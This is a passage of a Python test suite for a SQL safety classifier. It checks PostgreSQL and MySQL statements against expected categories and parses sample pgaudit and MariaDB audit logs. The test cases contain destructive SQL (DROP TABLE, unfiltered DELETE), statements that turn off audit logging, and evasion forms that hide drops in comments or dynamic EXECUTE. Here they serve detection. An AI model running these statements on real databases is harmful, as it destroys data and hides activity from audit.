    (PG, "DELETE FROM t WHERE '1' = '1'", "DELETE", (D,)),
    (PG, 'DELETE FROM t WHERE "a" = "a"', "DELETE", (D,)),  # a column compared with itself
    (PG, "UPDATE t SET a = 1 WHERE t.id = t.id", "UPDATE", (D,)),
    (PG, "DELETE FROM t WHERE id = 5 OR true", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE TRUE -- AND id = 1", "DELETE", (D,)),
    (PG, "DROP TABLE t /* unterminated", "DROP TABLE", (D,)),
    (PG, "WITH x AS MATERIALIZED (SELECT 1) DELETE FROM t", "DELETE", (D,)),
    (PG, "WITH a AS (DELETE FROM t RETURNING 1), b AS (SELECT 1) SELECT 1", "SELECT", (D,)),
    (PG, "EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN", (D,)),
    (PG, "SELECT pg_catalog.set_config('pgaudit.log', 'none', false)", "SELECT", (L,)),
    (PG, "select SET_CONFIG('PGAUDIT.LOG', 'NONE', false)", "SELECT", (L,)),
    (PG, "SELECT \"set_config\"('pgaudit.log', 'none', false)", "SELECT", (L,)),
    (PG, "SELECT pg_catalog.pg_drop_replication_slot('x')", "SELECT", (B,)),
    (PG, "SELECT \"pg_drop_replication_slot\"('x')", "SELECT", (B,)),
    (PG, "DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$", "DO", (D, X)),
    (PG, "DO 'BEGIN EXECUTE ''DROP TABLE t''; END'", "DO", (D, X)),
    (PG, 'ALTER ROLE "Bob" SUPERUSER', "ALTER ROLE", (P,)),
    (PG, 'GRANT "pg_read_all_data" TO agent', "GRANT", (P,)),
    (MY, "DROP /* x */ TABLE t", "DROP TABLE", (D,)),
    (MY, "DROP -- x\nTABLE t", "DROP TABLE", (D,)),
    (MY, "DROP # x\nTABLE t", "DROP TABLE", (D,)),
    (MY, "# leading comment\nDROP TABLE t", "DROP TABLE", (D,)),
    (MY, "DELETE FROM t # WHERE id = 1", "DELETE", (D,)),
    (MY, "dRoP tAbLe t", "DROP TABLE", (D,)),
    (MY, "DROP TABLE `users`", "DROP TABLE", (D,)),
    (MY, "DROP TABLE `shop`.`orders`", "DROP TABLE", (D,)),
    (MY, "DELETE FROM `orders`", "DELETE", (D,)),
    (MY, "TRUNCATE `orders`", "TRUNCATE", (D,)),
    (MY, "DROP\tTABLE\r\n  t", "DROP TABLE", (D,)),
    (MY, "/*!50000 DROP TABLE t */", "DROP TABLE", (D,)),
    (MY, "/*! DROP TABLE t */", "DROP TABLE", (D,)),
    (MY, "DROP /*!50000 TABLE */ t", "DROP TABLE", (D,)),
    (MY, "/*!50000 TRUNCATE TABLE t */", "TRUNCATE", (D,)),
    (MY, "/*M!100100 DROP TABLE t */", "DROP TABLE", (D,)),
    (MY, "/*!40101 SET sql_log_bin=0 */", "SET", (L,)),
    (MY, "DELETE FROM t WHERE 1=1", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE TRUE", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE id = 5 OR 1=1", "DELETE", (D,)),
    (MY, "/* a /* b */ DROP TABLE t; -- */", "DROP TABLE", (D,)),
    (MY, 'DELETE FROM t WHERE "a" = "a"', "DELETE", (D,)),  # "a" is a string in MySQL
    (MY, "DELETE FROM t WHERE id = 5 OR 1", "DELETE", (D,)),
    (MY, "SET GLOBAL server_audit_logging := OFF", "SET", (L,)),
    (MY, "SET @@sql_log_bin = 0", "SET", (L,)),
    (MY, "SET sql_log_bin = FALSE", "SET", (L,)),
    (MY, "SET GLOBAL general_log = FALSE", "SET", (L,)),
    (MY, "SET autocommit = 1, sql_log_bin = 0", "SET", (L,)),
    (MY, "SET GLOBAL max_connections = 10, GLOBAL server_audit_logging = OFF", "SET", (L,)),
    (MY, 'PREPARE s FROM "DROP TABLE t"', "PREPARE", (D, X)),
    (MY, "EXECUTE IMMEDIATE CONCAT('DROP TABLE ', 't')", "EXECUTE", (D, X)),
    (MY, "ALTER TABLE t ADD c INT, DROP d", "ALTER TABLE", (D,)),
]

# --------------------------------------------------------------- MySQL / MariaDB specific
MYSQL: list[Any] = [
    (MY, "DROP TABLE customers", "DROP TABLE", (D,)),
    (MY, "DROP TABLE IF EXISTS t1, t2", "DROP TABLE", (D,)),
    (MY, "DROP DATABASE shop", "DROP DATABASE", (D,)),
    (MY, "DROP DATABASE IF EXISTS `shop`", "DROP DATABASE", (D,)),
    (MY, "DROP SCHEMA shop", "DROP SCHEMA", (D,)),
    (MY, "DROP INDEX idx_created ON orders", "DROP INDEX", (D,)),
    (MY, "DROP VIEW v_orders", "DROP VIEW", (D,)),
    (MY, "DROP PROCEDURE IF EXISTS purge_orders", "DROP PROCEDURE", (D,)),
    (MY, "DROP FUNCTION calc_tax", "DROP FUNCTION", (D,)),
    (MY, "DROP USER 'bob'@'%'", "DROP USER", ()),
    (MY, "TRUNCATE TABLE orders", "TRUNCATE", (D,)),
    (MY, "TRUNCATE orders", "TRUNCATE", (D,)),
    (MY, "truncate table shop.orders", "TRUNCATE", (D,)),
    (MY, "DELETE FROM orders", "DELETE", (D,)),
    (MY, "DELETE FROM logs LIMIT 100", "DELETE", (D,)),
    (MY, "DELETE FROM logs ORDER BY id LIMIT 1000", "DELETE", (D,)),
    (MY, "DELETE LOW_PRIORITY QUICK IGNORE FROM logs", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE 1", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE 'a'='a'", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE id = id", "DELETE", (D,)),
    (MY, "UPDATE users SET active = 0", "UPDATE", (D,)),
    (MY, "UPDATE users SET active = 0 WHERE 1", "UPDATE", (D,)),
    (MY, "UPDATE users SET active = 0 WHERE 1=1", "UPDATE", (D,)),
    (MY, "UPDATE users SET active = 0 LIMIT 5", "UPDATE", (D,)),
    (MY, "UPDATE LOW_PRIORITY IGNORE users SET active = 0", "UPDATE", (D,)),
    (MY, "UPDATE t SET note = 'it\\'s'", "UPDATE", (D,)),
    (MY, "RENAME TABLE a TO b", "RENAME TABLE", (D,)),
    (MY, "RENAME TABLE orders TO orders_old, orders_new TO orders", "RENAME TABLE", (D,)),
    (MY, "ALTER TABLE t DROP c", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE t DROP COLUMN c", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE t DROP PARTITION p2019", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE t DROP PARTITION p2019, p2020", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE orders RENAME AS orders_old", "ALTER TABLE", (D,)),
    (MY, "ALTER TABLE t RENAME TO `t_old`", "ALTER TABLE", (D,)),
    (MY, "RENAME TABLE `shop`.`orders` TO `archive`.`orders`", "RENAME TABLE", (D,)),
    (MY, "DELETE FROM t WHERE 1 = 1 LIMIT 5", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE id = 1 --1", "DELETE", ()),  # "--1" is minus minus 1 in MySQL
    (MY, "ALTER TABLE `orders` RENAME COLUMN `a` TO `b`", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t ADD COLUMN c INT", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t MODIFY c BIGINT NOT NULL", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t CHANGE a b INT", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t RENAME INDEX idx_a TO idx_b", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t DROP FOREIGN KEY fk_user", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t DROP PRIMARY KEY", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t DROP CONSTRAINT chk_qty", "ALTER TABLE", ()),
    (MY, "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", "ALTER TABLE", ()),
    (MY, "SELECT * FROM t WHERE id = 1 FOR UPDATE", "SELECT", ()),
    (MY, "SELECT * FROM t WHERE id = 1 LOCK IN SHARE MODE", "SELECT", ()),
    (MY, "SELECT * FROM users WHERE email = \"x@y.z\"", "SELECT", ()),
    (MY, "SELECT 'it\\'s; DROP TABLE t'", "SELECT", ()),
    (MY, "SELECT @@version", "SELECT", ()),
    (MY, "SELECT * FROM t LIMIT 0, 1000", "SELECT", ()),
    (MY, "INSERT INTO t (id, n) VALUES (1, 2) ON DUPLICATE KEY UPDATE n = 2", "INSERT", ()),
    (MY, "INSERT INTO t (id, n) VALUES (1, 2) ON DUPLICATE KEY UPDATE n = VALUES(n)", "INSERT", ()),
    (MY, "INSERT INTO t (id, n) VALUES (1, 2) AS new ON DUPLICATE KEY UPDATE n = new.n", "INSERT", ()),
    (MY, "INSERT IGNORE INTO t VALUES (1)", "INSERT", ()),
    (MY, "REPLACE INTO t (id) VALUES (1)", "REPLACE", ()),
    (MY, "DELETE FROM t WHERE id = 5 LIMIT 1", "DELETE", ()),
    (MY, "DELETE FROM t WHERE name = 'O\\'Brien'", "DELETE", ()),
    (MY, "DELETE FROM users WHERE email = \"x@y.z\"", "DELETE", ()),
    (MY, "DELETE t1 FROM t1 INNER JOIN t2 ON t1.id = t2.id WHERE t2.gone = 1", "DELETE", ()),
    (MY, "UPDATE users SET active = 0 WHERE id = 7", "UPDATE", ()),
    (MY, "UPDATE t SET note = 'it\\'s' WHERE id = 1", "UPDATE", ()),
    (MY, "DELETE FROM t /*! WHERE id = 5 */", "DELETE", ()),
    (MY, "CREATE TABLE IF NOT EXISTS t (id INT PRIMARY KEY)", "CREATE TABLE", ()),
    (MY, "CREATE TABLE t_backup AS SELECT * FROM t", "CREATE TABLE", ()),
    (MY, "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */", "SET", ()),
    (MY, "SHOW TABLES", "SHOW", ()),
    (MY, "SHOW GRANTS FOR 'u'@'%'", "SHOW", ()),
    (MY, "USE shop", "USE", ()),
    (MY, "DESCRIBE orders", "DESCRIBE", ()),
    (MY, "EXPLAIN SELECT * FROM orders", "EXPLAIN", ()),
    (MY, "CALL purge_orders(30)", "CALL", ()),
    (MY, "START TRANSACTION", "START", ()),
    (MY, "COMMIT", "COMMIT", ()),
    (MY, "LOCK TABLES orders WRITE", "LOCK", ()),
    (MY, "FLUSH PRIVILEGES", "FLUSH", ()),
    (MY, "LOAD DATA INFILE '/tmp/orders.csv' INTO TABLE orders", "LOAD", ()),
]

SECTIONS: dict[str, list[Any]] = {
    "destructive": DESTRUCTIVE_PG,
    "benign": BENIGN_PG,
    "logging": LOGGING,
    "privilege": PRIVILEGE,
    "credentials": CREDENTIALS,
    "exec": EXEC,
    "backups": BACKUPS,
    "evasion": EVASION,
    "mysql": MYSQL,
}


def _values(case: Any) -> tuple[Any, ...]:
    return tuple(case.values) if hasattr(case, "values") else tuple(case)


def _short(sql: str, n: int = 48) -> str:
    s = re.sub(r"\s+", " ", sql).strip()
    s = s if len(s) <= n else s[: n - 1] + "~"
    return s.encode("ascii", "backslashreplace").decode()


def _params(sections: dict[str, list[Any]]) -> list[Any]:
    out: list[Any] = []
    seen: set[str] = set()
    for name, cases in sections.items():
        for n, case in enumerate(cases, 1):
            dialect, sql, _kind, _cats = _values(case)
            ident = f"{name}-{'pg' if dialect == PG else 'my'}{n:03d}-{_short(sql)}"
            assert ident not in seen, ident
            seen.add(ident)
            marks = case.marks if hasattr(case, "marks") else ()
            out.append(pytest.param(*_values(case), id=ident, marks=marks))
    return out


ALL_CASES = _params(SECTIONS)


@pytest.mark.parametrize("dialect,sql,kind,categories", ALL_CASES)
def test_table(dialect: str, sql: str, kind: str, categories: tuple[str, ...]) -> None:
    assert categories == tuple(sorted(categories)), "expectation must be sorted"
    verdicts = classify(sql, dialect)
    assert len(verdicts) == 1, [(v.kind, v.categories) for v in verdicts]
    v = verdicts[0]
    assert (v.kind, v.categories) == (kind, categories)


# --------------------------------------------------------------- ;-chained statements
# (dialect, sql, [(kind, categories) per statement])
CHAINED: list[Any] = [
    (PG, "SELECT 1; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (PG, "SELECT 'a;b'; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (PG, "SELECT $$;$$; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (PG, "SELECT 1 /* ; */; TRUNCATE t", [("SELECT", ()), ("TRUNCATE", (D,))]),
    (PG, "INSERT INTO t VALUES ('x'); DELETE FROM t", [("INSERT", ()), ("DELETE", (D,))]),
    (PG, "BEGIN; DROP TABLE t; COMMIT;", [("BEGIN", ()), ("DROP TABLE", (D,)), ("COMMIT", ())]),
    (PG, "DROP TABLE a; DROP TABLE orders_backup",
     [("DROP TABLE", (D,)), ("DROP TABLE", (B, D))]),
    (PG, "SET search_path = app; SET pgaudit.log = 'none'; DELETE FROM t",
     [("SET", ()), ("SET", (L,)), ("DELETE", (D,))]),
    (PG, "SELECT E'it\\'s'; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    # standard_conforming_strings is on by default (PostgreSQL >= 9.1): a backslash
    # in a plain '...' string is an ordinary character, so 'C:\' is a whole string
    (PG, "SELECT 'C:\\'; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (MY, "SELECT 1; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (MY, "SELECT 'it\\'s'; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (MY, "SELECT \"a;b\"; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (MY, "SELECT \"it\\\"s\"; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (MY, "USE shop; SET sql_log_bin=0; TRUNCATE TABLE orders",
     [("USE", ()), ("SET", (L,)), ("TRUNCATE", (D,))]),
    (PG, "SELECT '--'; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    (PG, 'SELECT "a;b" FROM t; DROP TABLE t', [("SELECT", ()), ("DROP TABLE", (D,))]),
    (PG, "SELECT $a$ $$ ; $a$; DROP TABLE t", [("SELECT", ()), ("DROP TABLE", (D,))]),
    # block comments nest in PostgreSQL: the DROP is inside the comment
    (PG, "/* /* */ DROP TABLE t */ ; DELETE FROM x", [("DELETE", (D,))]),
    (MY, "/*!50000 DROP TABLE t */; SELECT 1", [("DROP TABLE", (D,)), ("SELECT", ())]),
    # MySQL strings take backslash escapes: 'C:\'... never ends, nothing else runs
    (MY, "SELECT 'C:\\'; DROP TABLE t", [("SELECT", ())]),
]


def _chained_params() -> list[Any]:
    out = []
    for n, case in enumerate(CHAINED, 1):
        dialect, sql, _exp = _values(case)
        marks = case.marks if hasattr(case, "marks") else ()
        out.append(pytest.param(*_values(case), marks=marks,
                                id=f"chained-{'pg' if dialect == PG else 'my'}{n:03d}-{_short(sql)}"))
    return out


@pytest.mark.parametrize("dialect,sql,expected", _chained_params())
def test_chained(dialect: str, sql: str, expected: list[tuple[str, tuple[str, ...]]]) -> None:
    got = [(v.kind, v.categories) for v in classify(sql, dialect)]
    assert got == expected


# --------------------------------------------------------------- history independence
# A verdict belongs to the statement alone. Statements that differ only in a literal
# share a shape; classifying one must not decide the verdict of the other.
# (dialect, classified first, then this one, its expected kind and categories)
ORDER: list[Any] = [
    (PG, "SET pgaudit.log = 'all'", "SET pgaudit.log = 'none'", "SET", (L,)),
    (PG, "SET pgaudit.log = 'none'", "SET pgaudit.log = 'all'", "SET", ()),
    (PG, "ALTER ROLE bob SET pgaudit.log = 'read'", "ALTER ROLE bob SET pgaudit.log = 'none'",
     "ALTER ROLE", (L,)),
    (PG, "ALTER SYSTEM SET log_statement = 'ddl'", "ALTER SYSTEM SET log_statement = 'none'",
     "ALTER SYSTEM", (L,)),
    (PG, "SELECT set_config('search_path', 'app', false)",
     "SELECT set_config('pgaudit.log', 'none', false)", "SELECT", (L,)),
    (PG, "DELETE FROM t WHERE 'a' = 'b'", "DELETE FROM t WHERE 'a' = 'a'", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 'a' = 'a'", "DELETE FROM t WHERE 'a' = 'b'", "DELETE", ()),
    (PG, "UPDATE t SET a = 0 WHERE 1 = 2", "UPDATE t SET a = 0 WHERE 1 = 1", "UPDATE", (D,)),
    (MY, "SET sql_log_bin = 1", "SET sql_log_bin = 0", "SET", (L,)),
    (MY, "SET GLOBAL general_log = 'ON'", "SET GLOBAL general_log = 'OFF'", "SET", (L,)),
    (MY, "SET GLOBAL server_audit_logging = 1", "SET GLOBAL server_audit_logging = 0", "SET", (L,)),
    (MY, "DELETE FROM t WHERE 0", "DELETE FROM t WHERE 1", "DELETE", (D,)),
    (MY, "DELETE FROM t WHERE 'a' = 'b'", "DELETE FROM t WHERE 'a' = 'a'", "DELETE", (D,)),
    (MY, "PREPARE s FROM 'SELECT 1'", "PREPARE s FROM 'DROP TABLE t'", "PREPARE", (D, X)),
    (MY, "EXECUTE IMMEDIATE 'SELECT 1'", "EXECUTE IMMEDIATE 'DROP TABLE t'", "EXECUTE", (D, X)),
]


@pytest.mark.parametrize("dialect,first,sql,kind,categories", ORDER,
                         ids=[f"order-{d[:2]}{n:02d}-{_short(s)}" for n, (d, _f, s, _k, _c)
                              in enumerate(ORDER, 1)])
def test_verdict_does_not_depend_on_history(dialect: str, first: str, sql: str, kind: str,
                                            categories: tuple[str, ...]) -> None:
    for _ in range(2):
        classify(first, dialect)
        (v,) = classify(sql, dialect)
        assert (v.kind, v.categories) == (kind, categories)


# --------------------------------------------------------------- not valid SQL
# Comments are whitespace: splitting a keyword with one makes two words, not a DROP.
# (dialect, sql, keyword the kind must not start with)
NOT_SQL: list[Any] = [
    (PG, "DR/**/OP TABLE x", "DROP"),
    (PG, "TRUNC/**/ATE x", "TRUNCATE"),
    (MY, "DR/**/OP TABLE x", "DROP"),
    (MY, "DEL/**/ETE FROM x", "DELETE"),
]


@pytest.mark.parametrize("dialect,sql,forbidden", NOT_SQL,
                         ids=[f"notsql-{d[:2]}-{_short(s)}" for d, s, _ in NOT_SQL])
def test_not_sql(dialect: str, sql: str, forbidden: str) -> None:
    (v,) = classify(sql, dialect)
    assert not v.kind.startswith(forbidden)
    assert v.categories == ()


# --------------------------------------------------------------- objects as written
OBJECTS: list[tuple[str, str, list[str]]] = [
    (PG, "dRoP tAbLe Public.Orders", ["public.orders"]),
    (PG, 'DROP TABLE "Public"."Orders"', ["Public.Orders"]),
    (PG, "DROP TABLE IF EXISTS a, b.c CASCADE", ["a", "b.c"]),
    (PG, "TRUNCATE TABLE sales.q1, sales.q2", ["sales.q1", "sales.q2"]),
    (PG, "DELETE FROM public.orders WHERE 1=1", ["public.orders"]),
    (MY, "DROP TABLE `Shop`.`Orders`", ["Shop.Orders"]),
    (MY, "RENAME TABLE a TO b", ["a"]),
]


@pytest.mark.parametrize("dialect,sql,objects", OBJECTS,
                         ids=[f"objects-{d[:2]}-{_short(s)}" for d, s, _ in OBJECTS])
def test_objects(dialect: str, sql: str, objects: list[str]) -> None:
    (v,) = classify(sql, dialect)
    assert v.objects[: len(objects)] == objects


# =============================================================================
# 2. The public corpus, read in place
# =============================================================================

PGAUDIT_SQL = "pgaudit/pgaudit.sql"
MARIADB_ONPREM = "ibm-universal-connectors/mariadb/mariadb_server_audit_onprem_sample_audit_log.log"
MARIADB_RDS = "ibm-universal-connectors/mariadb/mariadb_rds_server_audit_sample_audit_log.log"
CORPUS_DIALECT = {PGAUDIT_SQL: PG, MARIADB_ONPREM: MY, MARIADB_RDS: MY}


def _line_state(line: str, state: dict[str, Any]) -> str:
    """Advance the quote/comment state over one line; returns the line's code with any
    trailing ``--`` comment removed (only outside quotes)."""
    i, n = 0, len(line)
    code_end = n
    while i < n:
        if state["dollar"]:
            j = line.find(state["dollar"], i)
            if j < 0:
                return line
            i = j + len(state["dollar"])
            state["dollar"] = None
        elif state["comment"]:
            j, k = line.find("/*", i), line.find("*/", i)
            if k < 0 and j < 0:
                return line
            if j >= 0 and (k < 0 or j < k):
                state["comment"] += 1
                i = j + 2
            else:
                state["comment"] -= 1
                i = k + 2
        elif state["quote"]:
            q = state["quote"]
            j = line.find(q, i)
            if j < 0:
                return line
            if j + 1 < n and line[j + 1] == q:  # doubled quote
                i = j + 2
                continue
            if q == "'" and state["escape"] and j > 0 and line[j - 1] == "\\":
                # E'...' string: backslash-escaped quote (count the run of backslashes)
                k = j - 1
                while k >= 0 and line[k] == "\\":
                    k -= 1
                if (j - 1 - k) % 2 == 1:
                    i = j + 1
                    continue
            state["quote"] = None
            i = j + 1
        else:
            ch = line[i]
            if line.startswith("--", i):
                code_end = i
                break
            if line.startswith("/*", i):
                state["comment"] = 1
                i += 2
            elif ch in "'\"":
                state["quote"] = ch
                state["escape"] = ch == "'" and i > 0 and line[i - 1] in "Ee" and (
                    i < 2 or not (line[i - 2].isalnum() or line[i - 2] == "_"))
                i += 1
            elif ch == "$":
                m = re.match(r"\$([A-Za-z_][A-Za-z_0-9]*)?\$", line[i:])
                if m and not (i > 0 and (line[i - 1].isalnum() or line[i - 1] == "_")):
                    state["dollar"] = m.group(0)
                    i += len(m.group(0))
                else:
                    i += 1
            else:
                i += 1
    return line[:code_end]


def psql_statements(text: str) -> list[tuple[int, str]]:
    """(start line, statement) for a psql script: meta-commands (``\\...`` lines and a
    trailing ``\\gset``), comment-only lines between statements and ``COPY ... FROM
    stdin`` data are skipped; a statement ends at a line whose code ends with ``;``
    outside quotes, dollar quotes and comments."""
    out: list[tuple[int, str]] = []
    cur: list[str] = []
    start = 0
    state: dict[str, Any] = {"dollar": None, "comment": 0, "quote": None, "escape": False}
    in_copy_data = False
    for no, line in enumerate(text.splitlines(), 1):
        if in_copy_data:
            if line.startswith("\\."):
                in_copy_data = False
            continue
        idle = not cur and not state["dollar"] and not state["comment"] and not state["quote"]
        if idle and (not line.strip() or line.lstrip().startswith("--") or line.startswith("\\")):
            continue
        meta = None
        if not state["dollar"] and not state["quote"]:
            m = re.search(r"\s\\g\w*\s*$", line)  # SELECT ... \gset
            if m:
                meta, line = m.group(0), line[: m.start()]
        if not cur:
            start = no
        cur.append(line)
        code = _line_state(line, state)
        inside = state["dollar"] or state["comment"] or state["quote"]
        if meta or (not inside and code.rstrip().endswith(";")):
            stmt = "\n".join(cur).strip()
            if stmt.endswith(";"):
                stmt = stmt[:-1].rstrip()
            out.append((start, stmt))
            cur = []
            if re.match(r"(?is)^copy\b.*\bfrom\s+stdin\b", stmt):
                in_copy_data = True
    assert not cur, f"unterminated statement at line {start}"
    return out


_AUDIT_HEAD = re.compile(r"^\d{8} \d{2}:\d{2}:\d{2},", re.M)
_UNESCAPE = {"n": "\n", "t": "\t", "r": "\r", "0": "\0"}


def mariadb_records(text: str) -> list[tuple[int, str, str]]:
    """(line, operation, object) for MariaDB server_audit lines
    ``timestamp,host,user,client,connid,queryid,OPERATION,db,object,retcode``; a QUERY's
    object is a single-quoted, backslash-escaped statement that may span lines."""
    out: list[tuple[int, str, str]] = []
    pos = 0
    n = len(text)
    while pos < n:
        m = _AUDIT_HEAD.search(text, pos)
        if not m:
            break
        start = m.start()
        line_no = text.count("\n", 0, start) + 1
        i = start
        fields: list[str] = []
        for _ in range(7 + 1):  # timestamp .. OPERATION, db
            j = text.index(",", i)
            fields.append(text[i:j])
            i = j + 1
        op = fields[6]
        if i < n and text[i] == "'":
            buf: list[str] = []
            i += 1
            while i < n:
                ch = text[i]
                if ch == "\\" and i + 1 < n:
                    buf.append(_UNESCAPE.get(text[i + 1], text[i + 1]))
                    i += 2
                    continue
                if ch == "'":
                    i += 1
                    break
                buf.append(ch)
                i += 1
            obj = "".join(buf)
        else:
            j = text.find(",", i)
            obj = text[i:j]
            i = j + 1
        # ",retcode": digits (possibly empty) up to the end of the record's last line
        m2 = re.compile(r",?\d*").match(text, i)
        pos = m2.end() if m2 else i
        out.append((line_no, op, obj))
    return out


def mariadb_queries(text: str) -> list[tuple[int, str]]:
    return [(line, obj) for line, op, obj in mariadb_records(text) if op == "QUERY"]


def corpus_statements(corpus: Path, rel: str) -> list[tuple[int, str]]:
    path = corpus / rel
    need(path.is_file(), f"corpus file not found: {path}")
    text = path.read_text(encoding="utf-8")
    return psql_statements(text) if rel.endswith(".sql") else mariadb_queries(text)


_CACHE: dict[tuple[Path, str], dict[int, str]] = {}


def statement_at(corpus: Path, rel: str, line: int) -> str:
    key = (corpus, rel)
    if key not in _CACHE:
        _CACHE[key] = dict(corpus_statements(corpus, rel))
    by_line = _CACHE[key]
    assert line in by_line, f"{rel}: no statement starts at line {line}"
    return by_line[line]


# Extraction must stay exact: a change in how statements are found fails here first.
STATEMENT_COUNTS = {
    PGAUDIT_SQL: 530,
    MARIADB_ONPREM: 23,  # QUERY records (of 36 records)
    MARIADB_RDS: 13,
}


@pytest.mark.parametrize("rel", list(STATEMENT_COUNTS), ids=lambda r: r.rsplit("/", 1)[-1])
def test_corpus_statement_count(corpus: Path, rel: str) -> None:
    assert len(corpus_statements(corpus, rel)) == STATEMENT_COUNTS[rel]


# (file, line, expected kind or None when the text is not SQL, expected categories)
# pgaudit.sql: every statement the specification calls destructive, then a sample of
# benign ones. Not listed (the specification does not say what they are):
# DROP EXTENSION (851, 1617, 1631, 1644), DROP OPERATOR (1619), USER MAPPING
# (1639, 1640, 1642), DROP SERVER (1643), PROPERTY GRAPH (1682, 1691), ALTER TABLE
# SET SCHEMA (675, 1352), ALTER DATABASE RENAME (717, 1398), pgaudit.log_statement
# / log_catalog = off (86, 486, 558, 1234, 1580).
_PGA_DROP_TABLE = [20, 21, 78, 338, 340, 341, 684, 731, 798, 847, 848, 856, 857, 901, 914,
                   1056, 1058, 1167, 1246, 1361, 1369, 1370, 1412, 1474, 1517, 1518, 1560,
                   1573, 1614, 1666, 1692, 1719, 1720, 1722, 1723, 1725, 1726, 1727]
_PGA_UPDATE_ALL = [288, 294, 396, 402, 447, 478, 991, 1093, 1099, 1128, 1143]
CORPUS: list[Any] = [
    *[(PGAUDIT_SQL, n, "DROP TABLE", (D,)) for n in _PGA_DROP_TABLE],
    (PGAUDIT_SQL, 339, "DROP VIEW", (D,)),
    (PGAUDIT_SQL, 1057, "DROP VIEW", (D,)),
    *[(PGAUDIT_SQL, n, "DROP FUNCTION", (D,)) for n in (342, 343, 1059, 1060, 1620, 1621, 1622)],
    (PGAUDIT_SQL, 913, "DROP INDEX", (D,)),
    (PGAUDIT_SQL, 1572, "DROP INDEX", (D,)),
    (PGAUDIT_SQL, 718, "DROP DATABASE", (D,)),
    (PGAUDIT_SQL, 1399, "DROP DATABASE", (D,)),
    *[(PGAUDIT_SQL, n, "DROP SCHEMA", (D,)) for n in (1371, 1721, 1724)],
    *[(PGAUDIT_SQL, n, "UPDATE", (D,)) for n in _PGA_UPDATE_ALL],  # UPDATE without WHERE
    *[(PGAUDIT_SQL, n, "DELETE", (D,)) for n in (791, 1047, 1467)],  # DELETE without WHERE
    *[(PGAUDIT_SQL, n, "ALTER TABLE", (D,)) for n in (669, 681, 1346, 1358)],  # DROP COLUMN
    (PGAUDIT_SQL, 672, "ALTER TABLE", (D,)),  # RENAME TO
    (PGAUDIT_SQL, 1349, "ALTER TABLE", (D,)),  # RENAME TO
    (PGAUDIT_SQL, 650, "DO", (D, X)),  # EXECUTE E'... ; DROP table ' || table_name
    (PGAUDIT_SQL, 1326, "DO", (D, X)),  # EXECUTE 'DROP table ' || table_name
    (PGAUDIT_SQL, 240, "ALTER ROLE", (L,)),  # SET pgaudit.log = 'NONE'
    (PGAUDIT_SQL, 371, "ALTER ROLE", (L,)),
    (PGAUDIT_SQL, 1064, "SET", (L,)),
    (PGAUDIT_SQL, 1616, "SET", (L,)),
    (PGAUDIT_SQL, 56, "CREATE USER", (C,)),
    (PGAUDIT_SQL, 60, "ALTER ROLE", (C,)),
    (PGAUDIT_SQL, 61, "ALTER USER", (C,)),  # encrypted /* comment */PASSWORD /* comment */ '...'
    (PGAUDIT_SQL, 84, "CREATE ROLE", (C,)),
    (PGAUDIT_SQL, 7, "GRANT", (P,)),  # GRANT ALL ON SCHEMA public TO public
    # benign sample
    (PGAUDIT_SQL, 4, "CREATE EXTENSION", ()),
    (PGAUDIT_SQL, 10, "SET", ()),  # pgaudit.log = 'all'
    (PGAUDIT_SQL, 14, "CREATE TABLE", ()),
    (PGAUDIT_SQL, 15, "CREATE TABLE", ()),
    (PGAUDIT_SQL, 18, "RESET", ()),
    (PGAUDIT_SQL, 40, "SELECT", ()),  # SELECT current_user \gset
    (PGAUDIT_SQL, 44, "ALTER ROLE", ()),  # :"current_user" SET pgaudit.log = 'Role'
    (PGAUDIT_SQL, 52, "CREATE ROLE", ()),
    (PGAUDIT_SQL, 57, "ALTER ROLE", ()),  # pgaudit.log = 'ddl, ROLE'
    (PGAUDIT_SQL, 85, "ALTER ROLE", ()),  # pgaudit.log = 'Read, writE'
    (PGAUDIT_SQL, 99, "GRANT", ()),  # GRANT SELECT, INSERT, UPDATE, DELETE ON test2
    (PGAUDIT_SQL, 120, "CREATE FUNCTION", ()),
    (PGAUDIT_SQL, 130, "CREATE TRIGGER", ()),
    (PGAUDIT_SQL, 142, "CREATE VIEW", ()),
    (PGAUDIT_SQL, 158, "SELECT", ()),
    (PGAUDIT_SQL, 180, "INSERT", ()),  # WITH CTE AS (SELECT ...) INSERT
    (PGAUDIT_SQL, 192, "INSERT", ()),  # WITH CTE AS (INSERT ...) INSERT
    (PGAUDIT_SQL, 201, "DO", ()),  # DO $$ BEGIN PERFORM test2_change(91); END $$
    (PGAUDIT_SQL, 207, "INSERT", ()),  # WITH CTE AS (UPDATE ... WHERE ...) INSERT
